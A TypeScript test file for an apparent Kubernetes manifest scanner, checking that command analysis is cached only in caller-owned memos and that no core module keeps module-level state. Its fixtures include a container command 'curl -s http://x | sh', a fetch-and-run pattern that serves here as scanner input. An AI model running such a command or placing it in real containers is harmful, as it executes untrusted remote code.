/**
 * The core keeps no state of its own between calls: what a scan remembers lives in the ScanMemo its
 * caller owns (ARCHITECTURE.md, "Layers").
 */
import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { analyseCommands, analyseManifest, ScanMemo } from '../src/index.js';
import { CommandMemo } from '../src/commands/command-memo.js';
import { cronJob, podWith } from './indicator-helpers.js';

const CONTAINER = { name: 'x', image: 'alpine', command: ['sh', '-c', 'curl -s http://x | sh'] };

describe('command models are remembered only in the memo a caller passes', () => {
  it('without a memo, every call models the container afresh', () => {
    const first = analyseCommands(CONTAINER, '/c');
    const second = analyseCommands(CONTAINER, '/c');
    assert.notEqual(first, second);
    assert.deepEqual(first, second);
  });

  it('with a memo, the same container (or an equal one) is modelled once; another memo knows nothing of it', () => {
    const memo = new CommandMemo();
    const first = analyseCommands(CONTAINER, '/c', undefined, memo);
    assert.equal(analyseCommands(CONTAINER, '/c', undefined, memo), first);
    assert.equal(analyseCommands(structuredClone(CONTAINER), '/c', undefined, memo), first, 'by content');
    assert.notEqual(analyseCommands(CONTAINER, '/other', undefined, memo), first, 'the path is part of the key');
    assert.notEqual(analyseCommands(CONTAINER, '/c', undefined, new CommandMemo()), first);
  });

  it('an analysis gives the same result with a shared memo, a fresh one, or none', () => {
    const text = cronJob(podWith({ command: ['sh', '-c', 'curl -s http://x | sh'] }));
    const memo = new ScanMemo();
    const alone = analyseManifest(text, 'a.yaml');
    assert.deepEqual(analyseManifest(text, 'a.yaml', { memo }), alone);
    assert.deepEqual(analyseManifest(text, 'a.yaml', { memo }), alone, 'the second time, from the memo');
    assert.ok(alone.findings.length > 0);
  });
});

describe('no module of the core holds state', () => {
  const source = new URL('../src/', import.meta.url).pathname;
  const files = (dir: string): string[] =>
    readdirSync(dir, { withFileTypes: true }).flatMap((entry) => (entry.isDirectory() ? files(join(dir, entry.name)) : entry.name.endsWith('.ts') ? [join(dir, entry.name)] : []));
  const VARIABLE = /^(?:export )?(let|var) (\w+)/;
  /** An empty collection (or memo) at module level exists to be filled later: state. A table of constants is not. */
  const EMPTY_COLLECTION = /^(?:export )?const (\w+)(?:: [^=]+)? = new (?:Map|Set|WeakMap|WeakSet|ContentMemo)\b(?:<[^>]*>)?\((?:\d*)\)/;
  /** Module-level bindings that are constants of the runtime, each with the reason. */
  const ALLOWED = new Map([['patterns/casefold.ts: let table', 'the case-folding table, derived once on first use and never changed']]);

  it('declares no module-level variable and no empty module-level collection to fill later', () => {
    const found: string[] = [];
    for (const file of files(source)) {
      const name = file.slice(source.length);
      for (const line of readFileSync(file, 'utf8').split('\n')) {
        const variable = VARIABLE.exec(line);
        if (variable && !ALLOWED.has(`${name}: ${variable[1]} ${variable[2]}`)) found.push(`${name}: ${line.trim()}`);
        if (EMPTY_COLLECTION.test(line)) found.push(`${name}: ${line.trim()}`);
      }
    }
    assert.deepEqual(found, [], 'keep what a scan remembers in ScanMemo, owned by the caller');
  });

  it('notices module-level state when there is some', () => {
    const stateful = ['const cache = new WeakMap<object, string>();', 'let seen = 0;', 'const byContent = new ContentMemo<string>(512);'];
    assert.deepEqual(stateful.filter((line) => VARIABLE.test(line) || EMPTY_COLLECTION.test(line)), stateful);
    assert.ok(!EMPTY_COLLECTION.test("const NULLS = new Set(['', '~']);"), 'a table of constants is not state');
  });
});
